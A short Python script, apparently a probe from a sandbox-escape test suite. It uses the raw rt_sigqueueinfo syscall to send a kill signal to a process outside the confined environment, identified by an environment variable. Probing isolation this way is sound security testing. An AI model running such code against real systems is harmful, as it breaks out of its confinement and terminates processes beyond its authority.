# Kills a process outside with a queued signal.
# needs: outside
from escape import *
info = (ctypes.c_int * 32)(9, 0, -1)
print("killed:", name(syscall(129, int(E["OUTSIDE_VICTIM"]), 9, info)))
